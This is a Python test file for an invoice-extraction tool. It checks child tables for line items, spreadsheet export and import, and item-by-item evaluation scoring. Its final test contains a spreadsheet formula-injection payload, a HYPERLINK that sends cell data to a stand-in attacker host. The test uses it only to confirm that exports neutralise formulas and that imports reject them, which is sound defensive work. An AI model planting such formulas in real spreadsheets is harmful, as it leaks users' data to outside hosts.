"""Many records per document (issue 20): a list of objects as a child table of its own, kept in step with
results.parquet, as sheets both ways, and scored item by item."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest
from pydantic import BaseModel

from extractor import schemas as schemas_module
from extractor import table
from extractor.config import RunConfig
from extractor.errors import ConfigError, ExportRefused
from extractor.extraction import runner
from extractor.ladder.finetune import FinetuneConfig, export_finetune
from extractor.layout import Layout
from extractor.quality.evaluation import EvalConfig, EvalReport, evaluate
from extractor.schemas import load_schema, load_schema_file
from extractor.store.labels import corrected_results
from extractor.testing.fakeserver import FakeOpenAI
from extractor.values.metrics import RecordScore, item_kinds, match_items
from extractor.views.spreadsheets import NOT_FOUND, ExportConfig, ImportConfig, export, import_corrections

from .conftest import make_config, serving, write_docs

SCHEMA = '''
"""An invoice with line items, and a work history: two lists of objects."""
import datetime as dt
from decimal import Decimal

from pydantic import BaseModel


class Money(BaseModel):
    value: Decimal | None = None
    currency: str | None = None


class LineItem(BaseModel):
    description: str
    quantity: float | None = None
    unit_price: Decimal | None = None
    amount: Decimal
    tags: list[str] = []
    tax: Money | None = None


class Job(BaseModel):
    title: str
    company: str | None = None
    start_year: int | None = None


class Invoice(BaseModel):
    invoice_number: str
    invoice_date: dt.date | None = None
    total_amount: float | None = None
    line_items: list[LineItem] = []
    jobs: list[Job] = []


MODEL = Invoice
INSTRUCTIONS = "Extract the invoice's fields as printed; amounts as numbers."
'''

ITEMS = {
    "a.txt": [{"description": "Paper A4", "quantity": 20, "unit_price": "11.20", "amount": "224.00",
               "tags": ["office"], "tax": {"value": "42.56", "currency": "EUR"}},
              {"description": "Stapler", "quantity": 1, "unit_price": "8.00", "amount": "8.00"}],
    "b.txt": [{"description": "Consulting", "quantity": 7.5, "unit_price": "120", "amount": "900"}],
    "c.txt": [],
}


class LineItemModel(BaseModel):
    description: str
    quantity: float | None = None
    unit_price: float | None = None
    amount: float


def schema_dir(tmp_path: Path) -> Path:
    folder = tmp_path / "schemas"
    folder.mkdir(exist_ok=True)
    (folder / "invoice.py").write_text(SCHEMA, encoding="utf-8")
    return folder


def document(number: str, items: list[dict[str, Any]], jobs: list[dict[str, Any]] | None = None) -> str:
    answer = {"invoice_number": number, "invoice_date": "2026-10-01", "total_amount": 1.0, "line_items": items,
              "jobs": jobs or []}
    return f"Invoice {number}\n[[answer:{json.dumps(answer)}]]"


def invoice_config(tmp_path: Path, server: FakeOpenAI, **overrides: Any) -> Any:
    return make_config(tmp_path, server, schema="invoice", schemas_dir=schema_dir(tmp_path), **overrides)


def items_of(path: Path) -> dict[str, list[dict[str, Any]]]:
    """doc_id -> its child rows (without doc_id), in index order."""
    out: dict[str, list[dict[str, Any]]] = {}
    for row in pl.read_parquet(path).sort("doc_id", "index").to_dicts():
        out.setdefault(row.pop("doc_id"), []).append(row)
    return out


def test_the_key_columns_are_spelled_the_same_in_schemas_and_table() -> None:
    assert schemas_module.CHILD_KEYS == table.CHILD_KEYS


def test_a_list_of_objects_is_a_typed_child_table(tmp_path: Path, fake_server: FakeOpenAI) -> None:
    write_docs(tmp_path / "in", {name: document(name[0], items) for name, items in ITEMS.items()}
               | {"d.txt": document("d", [], jobs=[{"title": "Engineer", "company": "Acme", "start_year": 2020}])})
    summary = runner.run(invoice_config(tmp_path, fake_server))
    assert summary.ok == 4
    layout = Layout.of(tmp_path / "out", "invoice")
    frame = pl.read_parquet(layout.child("line_items"))
    assert frame.schema == pl.Schema({
        "doc_id": pl.String, "index": pl.Int64, "description": pl.String, "quantity": pl.Float64,
        "unit_price": pl.Float64, "amount": pl.Float64, "tags": pl.List(pl.String),
        "tax": pl.Struct({"value": pl.Float64, "currency": pl.String})})
    got = items_of(layout.child("line_items"))
    assert set(got) == {"a.txt", "b.txt"}  # no items, no rows
    assert [r["index"] for r in got["a.txt"]] == [0, 1]
    assert got["a.txt"][0] == {"index": 0, "description": "Paper A4", "quantity": 20.0, "unit_price": 11.2,
                               "amount": 224.0, "tags": ["office"], "tax": {"value": 42.56, "currency": "EUR"}}
    assert got["a.txt"][1]["tax"] is None and got["a.txt"][1]["tags"] == []
    assert got["b.txt"] == [{"index": 0, "description": "Consulting", "quantity": 7.5, "unit_price": 120.0,
                             "amount": 900.0, "tags": [], "tax": None}]
    jobs = pl.read_parquet(layout.child("jobs"))
    assert jobs.to_dicts() == [{"doc_id": "d.txt", "index": 0, "title": "Engineer", "company": "Acme",
                                "start_year": 2020}]
    # results.parquet keeps the list as a List(Struct) column, as before
    results = pl.read_parquet(layout.results)
    assert isinstance(results.schema["line_items"], pl.List)
    assert results.filter(pl.col("doc_id") == "a.txt")["line_items"].list.len().item() == 2


def test_child_tables_follow_incremental_runs_force_and_removed_documents(tmp_path: Path,
                                                                          fake_server: FakeOpenAI) -> None:
    write_docs(tmp_path / "in", {name: document(name[0], items) for name, items in ITEMS.items()})
    config = invoice_config(tmp_path, fake_server)
    runner.run(config)
    path = Layout.of(tmp_path / "out", "invoice").child("line_items")
    # a changed document, a removed one and a new one: the next run's child table is the folder's newest rows
    write_docs(tmp_path / "in", {"a.txt": document("a", ITEMS["a.txt"][:1]), "e.txt": document("e", ITEMS["b.txt"])})
    (tmp_path / "in" / "b.txt").unlink()
    again = runner.run(config)
    assert again.cached == 1  # c.txt carried
    got = items_of(path)
    assert {d: len(rows) for d, rows in got.items()} == {"a.txt": 1, "e.txt": 1}
    forced = runner.run(invoice_config(tmp_path, fake_server, force=True))
    assert forced.cached == 0
    assert items_of(path) == got
    results = pl.read_parquet(Layout.of(tmp_path / "out", "invoice").results)
    assert results.select(pl.col("line_items").list.len().sum()).item() == pl.read_parquet(path).height


def test_archived_documents_keep_their_items(tmp_path: Path, fake_server: FakeOpenAI) -> None:
    write_docs(tmp_path / "in", {name: document(name[0], items) for name, items in ITEMS.items()})
    runner.run(invoice_config(tmp_path, fake_server, archive_dir=tmp_path / "done"))
    assert not any((tmp_path / "in").iterdir())
    write_docs(tmp_path / "in", {"e.txt": document("e", ITEMS["b.txt"])})
    runner.run(invoice_config(tmp_path, fake_server, archive_dir=tmp_path / "done"))
    got = items_of(Layout.of(tmp_path / "out", "invoice").child("line_items"))
    assert {d: len(rows) for d, rows in got.items()} == {"a.txt": 2, "b.txt": 1, "e.txt": 1}


@pytest.mark.parametrize(("field", "problem"), [("results", "written over results.parquet"),
                                                ("index", "clash with the child table's key columns")])
def test_a_schema_whose_list_would_clash_is_refused_at_load(tmp_path: Path, field: str, problem: str) -> None:
    path = tmp_path / "bad.py"
    if field == "results":
        body = "class Item(BaseModel):\n    a: str\n\nclass M(BaseModel):\n    results: list[Item] = []\n"
    else:
        body = "class Item(BaseModel):\n    index: int\n\nclass M(BaseModel):\n    items: list[Item] = []\n"
    path.write_text(f"from pydantic import BaseModel\n\n{body}\nMODEL = M\nINSTRUCTIONS = 'x'\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=problem):
        load_schema_file(path)


@pytest.mark.integration
def test_a_killed_run_leaves_child_tables_in_step_with_the_journal(tmp_path: Path) -> None:
    """kill -9 mid-run, then the next night: the child table holds exactly the items of results.parquet."""
    docs = {f"d{i:02d}.txt": document(str(i), ITEMS["a.txt"][: 1 + i % 2]) for i in range(40)}
    write_docs(tmp_path / "in", docs)
    server = FakeOpenAI(latency_s=0.1)
    server.start()
    try:
        args = [sys.executable, "-m", "extractor", "run", str(tmp_path / "in"), "--schema", "invoice",
                "--schemas", str(schema_dir(tmp_path)), "--output", str(tmp_path / "out"), "--base-url",
                server.base_url, "--model", "gpt-4o-mini", "--concurrency", "2", "--no-progress"]
        env = {**os.environ, "OPENAI_API_KEY": "sk-test-0000000000"}
        proc = subprocess.Popen(args, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(2.0)  # interpreter start-up is ~1 s: the kill lands mid-run
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=30)
        done = subprocess.run(args, env=env, capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, done.stderr
    finally:
        server.stop()
    layout = Layout.of(tmp_path / "out", "invoice")
    got = items_of(layout.child("line_items"))
    assert {d: len(rows) for d, rows in got.items()} == {d: 1 + int(d[1:3]) % 2 for d in docs}
    results = pl.read_parquet(layout.results)
    item = table.child_fields(load_schema_file(schema_dir(tmp_path) / "invoice.py").model)["line_items"]
    assert table.child_frame(results, "line_items", item).equals(pl.read_parquet(layout.child("line_items")))


# -- spreadsheets both ways --------------------------------------------------------------------------------------


TEXTS = {"a.txt": "Invoice INV-A\nPaper A4 (office)  20 x 11.20  224.00\nStapler  1 x 8.00  8.00\n",
         "b.txt": "Invoice INV-B\nConsulting  7.5 h x 120  900\n", "c.txt": "Invoice INV-C\nNothing billed.\n"}


def answers(items: dict[str, list[dict[str, Any]]]) -> dict[str, dict[str, Any]]:
    """The fake server's oracle: each document (by its invoice number) answered with these items."""
    return {f"INV-{name[0].upper()}": {"invoice_number": name[0], "invoice_date": "2026-10-01",
                                         "total_amount": 1.0, "line_items": rows, "jobs": []}
            for name, rows in items.items()}


@pytest.fixture
def invoices(tmp_path: Path) -> Iterator[RunConfig]:
    """Three invoices answered from ITEMS (a tax of 42.56 the text does not hold), run once."""
    write_docs(tmp_path / "in", TEXTS)
    with serving(answers=answers(ITEMS)) as server:
        config = invoice_config(tmp_path, server)
        runner.run(config)
        yield config


def _export(config: RunConfig, fmt: str = "xlsx", **options: Any) -> Path:
    return export(ExportConfig(settings=config, fmt=fmt, **options))


def _sheet(path: Path, name: str) -> tuple[list[str], list[list[Any]], Any]:
    workbook = openpyxl.load_workbook(path)
    sheet = workbook[name]
    rows = [[c.value for c in cells] for cells in sheet.iter_rows()]
    return rows[0], rows[1:], sheet


def test_the_xlsx_has_a_sheet_per_list_of_objects(invoices: RunConfig) -> None:
    path = _export(invoices)
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["results", "line_items", "jobs", "summary"]
    header, rows, sheet = _sheet(path, "line_items")
    assert header == ["doc_id", "index", "description", "quantity", "unit_price", "amount", "tags", "tax.value",
                      "tax.currency"]
    assert [r[:2] for r in rows] == [["a.txt", 0], ["a.txt", 1], ["b.txt", 0]]
    assert rows[0][2:] == ["Paper A4", 20, 11.2, 224, "office", 42.56, "EUR"]
    # the same number formats as the results sheet: money with its decimals, a typed number
    amount = sheet.cell(row=2, column=header.index("amount") + 1)
    assert amount.data_type == "n" and amount.number_format == "0.0"
    unit = sheet.cell(row=2, column=header.index("unit_price") + 1)
    assert unit.number_format == "0.0"  # 11.20, 8.00, 120: the decimals the values have, as on the results sheet
    # evidence: the found quantity carries its quote, the tax (nowhere in the text) is filled red
    quantity = sheet.cell(row=2, column=header.index("quantity") + 1)
    assert quantity.comment is not None and "20" in quantity.comment.text
    tax = sheet.cell(row=2, column=header.index("tax.value") + 1)
    assert tax.comment is not None and NOT_FOUND in tax.comment.text and tax.fill.fgColor.rgb.endswith("FFC7CE")
    # the results sheet says how many items a document has, no cell of tuples
    main_header, main_rows, _ = _sheet(path, "results")
    counts = {r[0]: r[main_header.index("line_items")] for r in main_rows}
    assert counts == {"a.txt": 2, "b.txt": 1, "c.txt": 0}
    assert _sheet(path, "jobs")[1] == []


def test_the_csv_export_writes_one_file_per_table(invoices: RunConfig) -> None:
    path = _export(invoices, "csv")
    child = Layout.child_export(path, "line_items")
    assert child.name == "results.line_items.csv"
    with child.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [(r["doc_id"], r["index"], r["description"], r["amount"]) for r in rows] == [
        ("a.txt", "0", "Paper A4", "224.0"), ("a.txt", "1", "Stapler", "8.0"), ("b.txt", "0", "Consulting", "900.0")]
    assert Layout.child_export(path, "jobs").is_file()


def _edit_items(path: Path, edits: dict[tuple[str, int, str], Any] | None = None, delete: tuple[str, int] | None = None,
                add: list[Any] | None = None) -> None:
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["line_items"]
    header = [c.value for c in sheet[1]]
    for r, cells in enumerate(sheet.iter_rows(min_row=2), start=2):
        for (doc_id, index, column), value in (edits or {}).items():
            if cells[0].value == doc_id and cells[1].value == index:
                cells[header.index(column)].value = value
        if delete and (cells[0].value, cells[1].value) == delete:
            sheet.delete_rows(r)
            break
    if add:
        sheet.append(add)
    workbook.save(path)


def _items(config: RunConfig, doc_id: str) -> list[dict[str, Any]]:
    corrected = corrected_results(load_schema(config.schemas_dir, config.schema), config.layout)
    return corrected.filter(pl.col("doc_id") == doc_id)["line_items"].to_list()[0]


def test_an_edited_item_is_imported_as_the_documents_list_and_survives_the_next_run(
        invoices: RunConfig) -> None:
    path = _export(invoices)
    _edit_items(path, {("a.txt", 1, "amount"): 9.5})
    with pytest.raises(ExportRefused, match=r"a\.txt / line_items"):
        _export(invoices)  # the snapshot guard covers child sheets
    report = import_corrections(ImportConfig(settings=invoices, file=path))
    assert report.applied == [("a.txt", "line_items")] and not report.rejected
    assert [i["amount"] for i in _items(invoices, "a.txt")] == [224.0, 9.5]
    again = _export(invoices)  # no refusal: the edit is imported
    assert _sheet(again, "line_items")[1][1][5] == 9.5
    assert _sheet(again, "results")[1][0][_sheet(again, "results")[0].index("corrected")] == "line_items"
    runner.run(invoices)  # the next night: the label stays a person's
    assert [i["amount"] for i in _items(invoices, "a.txt")] == [224.0, 9.5]
    assert _sheet(_export(invoices, overwrite=True), "line_items")[1][1][5] == 9.5
    # and the fine-tune trains on it
    written = export_finetune(FinetuneConfig(settings=invoices, val_fraction=0.0))
    assert written.train_path is not None and "a.txt" in written.train_doc_ids
    lines = [json.loads(line) for line in written.train_path.read_text(encoding="utf-8").splitlines()]
    answers = [m for line in lines for m in line["messages"] if m["role"] == "assistant"]
    trained = [json.loads(m.get("content") or m["tool_calls"][0]["function"]["arguments"]) for m in answers]
    assert [[float(i["amount"]) for i in a["line_items"]] for a in trained if a["invoice_number"] == "a"] == [
        [224.0, 9.5]]


def test_added_and_deleted_rows_are_the_documents_list(invoices: RunConfig) -> None:
    path = _export(invoices)
    _edit_items(path, delete=("a.txt", 0), add=["b.txt", None, "Travel", 1, 50, 50, None, None, None])
    report = import_corrections(ImportConfig(settings=invoices, file=path))
    assert sorted(report.applied) == [("a.txt", "line_items"), ("b.txt", "line_items")], report.rejected
    assert [i["description"] for i in _items(invoices, "a.txt")] == ["Stapler"]
    assert [(i["description"], i["amount"]) for i in _items(invoices, "b.txt")] == [("Consulting", 900.0),
                                                                                   ("Travel", 50.0)]
    assert [r[:3] for r in _sheet(_export(invoices), "line_items")[1]] == [
        ["a.txt", 0, "Stapler"], ["b.txt", 0, "Consulting"], ["b.txt", 1, "Travel"]]
    assert import_corrections(ImportConfig(settings=invoices, file=path)).applied == []  # a re-import stores nothing


def test_deleting_every_row_of_a_document_labels_its_list_empty(invoices: RunConfig) -> None:
    path = _export(invoices)
    _edit_items(path, delete=("b.txt", 0))
    report = import_corrections(ImportConfig(settings=invoices, file=path))
    assert report.applied == [("b.txt", "line_items")]
    assert _items(invoices, "b.txt") == []


def test_a_bad_item_is_rejected_naming_the_item_and_the_sheet_stays_an_edit(invoices: RunConfig) -> None:
    path = _export(invoices)
    _edit_items(path, {("a.txt", 1, "amount"): "lots"}, add=[None, None, "No document", 1, 1, 1])
    report = import_corrections(ImportConfig(settings=invoices, file=path))
    assert report.applied == []
    assert any(m.startswith("a.txt / line_items: item 2, amount:") for m in report.rejected), report.rejected
    assert any("no doc_id" in m for m in report.rejected)
    with pytest.raises(ExportRefused, match=r"a\.txt / line_items"):
        _export(invoices)


def test_csv_child_files_import_too(invoices: RunConfig) -> None:
    path = _export(invoices, "csv")
    child = Layout.child_export(path, "line_items")
    text = child.read_text(encoding="utf-8-sig").replace("Consulting", "Advisory")
    child.write_text(text, encoding="utf-8-sig")
    report = import_corrections(ImportConfig(settings=invoices, file=path))
    assert report.applied == [("b.txt", "line_items")], report.rejected
    assert _items(invoices, "b.txt")[0]["description"] == "Advisory"


# -- eval of records -----------------------------------------------------------------------------------------------

GOLD = {"a.txt": ITEMS["a.txt"], "b.txt": ITEMS["b.txt"], "c.txt": [],
        "d.txt": [{"description": "Desk", "quantity": 1, "unit_price": "300", "amount": "300"},
                  {"description": "Chair", "quantity": 4, "unit_price": "75", "amount": "300"},
                  {"description": "Lamp", "quantity": 2, "unit_price": "20.00", "amount": "40.00"}]}
FREIGHT = {"description": "Freight and handling", "quantity": 3, "unit_price": "9.99", "amount": "29.97"}


def _labels(tmp_path: Path, gold: dict[str, list[dict[str, Any]]]) -> Path:
    path = tmp_path / "labels.jsonl"
    path.write_text("".join(json.dumps({"doc_id": d, "line_items": items}) + "\n" for d, items in gold.items()),
                    encoding="utf-8")
    return path


def _evaluate(tmp_path: Path, answered: dict[str, list[dict[str, Any]]]) -> EvalReport:
    texts = {**TEXTS, "d.txt": "Invoice INV-D\nDesk 1 x 300 = 300\nChair 4 x 75 = 300\nLamp 2 x 20.00 = 40.00\n"}
    write_docs(tmp_path / "in", texts)
    with serving(answers=answers(answered)) as server:
        config = invoice_config(tmp_path, server)
        runner.run(config)
    return evaluate(EvalConfig(settings=config, labels_file=_labels(tmp_path, GOLD)))


def test_answers_equal_to_the_labels_score_every_item(tmp_path: Path) -> None:
    report = _evaluate(tmp_path, GOLD)
    (items,) = [s for s in report.scores if s.field == "line_items"]
    assert isinstance(items, RecordScore)
    assert (items.tp, items.fp, items.fn) == (6, 0, 0)
    assert items.precision == items.recall == 1.0 and items.accuracy == 1.0
    assert all(sub.accuracy == 1.0 for sub in items.sub_fields.values())
    assert report.as_dict()["fields"]["line_items"]["items"] == {
        "matched": 6, "invented": 0, "missed": 0, "precision": 1.0, "recall": 1.0, "f1": 1.0}
    layout = invoice_config(tmp_path, FakeOpenAI()).layout  # every item exactly in the child table too
    got = items_of(layout.child("line_items"))
    assert {d: [r["description"] for r in rows] for d, rows in got.items()} == {
        d: [i["description"] for i in rows] for d, rows in GOLD.items() if rows}


def test_dropped_added_altered_and_duplicated_items_are_measured_exactly(tmp_path: Path) -> None:
    altered = {**GOLD["d.txt"][2], "amount": "44.00"}
    report = _evaluate(tmp_path, {
        "a.txt": GOLD["a.txt"][:1],  # one line dropped
        "b.txt": GOLD["b.txt"] + [FREIGHT],  # one line invented
        "c.txt": [],
        "d.txt": [GOLD["d.txt"][0], GOLD["d.txt"][0], GOLD["d.txt"][1], altered],  # a duplicate, an altered amount
    })
    (items,) = [s for s in report.scores if s.field == "line_items"]
    assert isinstance(items, RecordScore)
    assert (items.tp, items.fp, items.fn) == (5, 2, 1)
    assert items.precision == pytest.approx(5 / 7) and items.recall == pytest.approx(5 / 6)
    assert (items.sub_fields["amount"].values, items.sub_fields["amount"].right) == (5, 4)
    assert items.sub_fields["description"].accuracy == 1.0 and items.sub_fields["quantity"].accuracy == 1.0
    # the headline counts each labeled item value: 7 per item (tax spread in two); a missed or invented item
    # is 7 wrong values, c.txt (no items either side) one right value
    width = 7
    assert report.fields_right == (5 * width - 1 + 1, (5 + 2 + 1) * width + 1)
    as_json = report.as_dict()
    assert as_json["fields"]["line_items"]["items"]["invented"] == 2
    assert as_json["fields"]["line_items"]["sub_fields"]["amount"] == {"values": 5, "right": 4, "accuracy": 0.8}
    assert as_json["overall"]["fields"] == (5 + 2 + 1) * width + 1
    # line-item values enter the calibration, right or wrong as eval matched them
    assert report.calibration is not None
    amounts = report.calibration.per_field["line_items.amount"]
    assert (amounts["values"], amounts["right"]) == (7, 4)  # 7 predicted amounts, 4 of them on matched items right


def test_numbers_inside_items_compare_within_the_tolerance_and_order_does_not_matter() -> None:
    kinds = item_kinds(LineItemModel)
    score = RecordScore(field="line_items", kind="records", item_fields=kinds)
    gold = [{"description": "Paper", "quantity": 20.0, "unit_price": 1.0, "amount": 20.0},
            {"description": "Pens", "quantity": 2.0, "unit_price": 3.0, "amount": 6.0}]
    score.add([{**gold[1]}, {**gold[0], "amount": 20.001}], gold)
    assert (score.tp, score.fp, score.fn) == (2, 0, 0) and score.sub_fields["amount"].accuracy == 1.0
    duplicated = RecordScore(field="line_items", kind="records", item_fields=kinds)
    duplicated.add([gold[0], gold[0]], [gold[0]])  # two identical lines against one: not 1.0
    assert (duplicated.tp, duplicated.fp, duplicated.fn) == (1, 1, 0) and duplicated.precision == 0.5
    assert match_items([{"description": "Freight", "quantity": 20.0}], gold, kinds) == []  # shares too little


def test_samples_agree_on_a_list_of_objects_item_by_item() -> None:
    from extractor.values.metrics import consensus

    class Bill(BaseModel):
        line_items: list[LineItemModel] = []

    one = [LineItemModel(description="Paper", quantity=2, unit_price=3, amount=6)]
    two = [*one, LineItemModel(description="Pens", quantity=1, unit_price=2, amount=2)]
    result = consensus(Bill, [Bill(line_items=one), Bill(line_items=one), Bill(line_items=two)])
    assert result.value is not None and len(result.value["line_items"]) == 1  # the majority list
    assert result.agreement["line_items"] == pytest.approx((1 + 1 + 0.5) / 3)  # 1 of 2 items matched in the third


def test_the_terminal_lists_each_item_field_under_its_list(tmp_path: Path) -> None:
    from rich.console import Console

    from extractor.views.terminal import print_eval

    report = _evaluate(tmp_path, {**GOLD, "a.txt": GOLD["a.txt"][:1]})
    console = Console(width=160, record=True)
    print_eval(report, console)
    text = console.export_text()
    assert "line_items.amount" in text and "line_items" in text
    right, total = report.fields_right
    assert f"{right:.1f}/{total}" in text


def test_importing_a_child_csv_on_its_own_says_which_file_to_pass(invoices: RunConfig) -> None:
    path = _export(invoices, "csv")
    with pytest.raises(ConfigError, match=r"pass results\.csv"):
        import_corrections(ImportConfig(settings=invoices, file=Layout.child_export(path, "line_items")))


def test_the_eval_history_keeps_each_item_field(tmp_path: Path) -> None:
    from extractor.store import Journal

    _evaluate(tmp_path, {**GOLD, "d.txt": [GOLD["d.txt"][0], GOLD["d.txt"][1], {**GOLD["d.txt"][2], "amount": "1"}]})
    with Journal.open_readonly(Layout.of(tmp_path / "out", "invoice").journal) as journal:
        history = {row["field"]: row for row in journal.eval_history()}
    assert history["line_items"]["precision"] == 1.0
    assert history["line_items.amount"]["accuracy"] == pytest.approx(5 / 6)
    assert history["line_items.description"]["accuracy"] == 1.0


def test_item_text_is_never_a_formula_and_a_formula_typed_into_a_child_sheet_is_refused(tmp_path: Path) -> None:
    payload = '=HYPERLINK("http://evil.example/?d="&A2,"click me")'
    write_docs(tmp_path / "in", {"a.txt": TEXTS["a.txt"]})
    evil = {"a.txt": [{**ITEMS["a.txt"][0], "description": payload}, ITEMS["a.txt"][1]]}
    with serving(answers=answers(evil)) as server:
        config = invoice_config(tmp_path, server)
        runner.run(config)
    path = _export(config)
    header, _rows, sheet = _sheet(path, "line_items")
    cell = sheet.cell(row=2, column=header.index("description") + 1)
    assert cell.value == payload and cell.data_type == "s"
    csv_path = _export(config, "csv")
    assert "'=HYPERLINK" in Layout.child_export(csv_path, "line_items").read_text(encoding="utf-8-sig")
    workbook = openpyxl.load_workbook(path)
    workbook["line_items"].cell(row=3, column=header.index("amount") + 1).value = "=2*4"
    workbook.save(path)
    report = import_corrections(ImportConfig(settings=config, file=path))
    assert report.applied == [] and report.rejected == ["a.txt / line_items: formulas are not accepted, type the "
                                                        "value itself"]
